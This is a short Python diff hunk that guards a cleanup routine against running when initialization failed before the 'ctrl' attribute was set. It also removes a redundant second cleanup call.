+        # __init__ may have failed before there was anything to clean up
+        if getattr(self, 'ctrl', None) is None:
+            return
         try:
             self.cleanup()
         except Exception as e:
             print(f"Error during cleanup: {e}")
-            pass
-        self.cleanup() 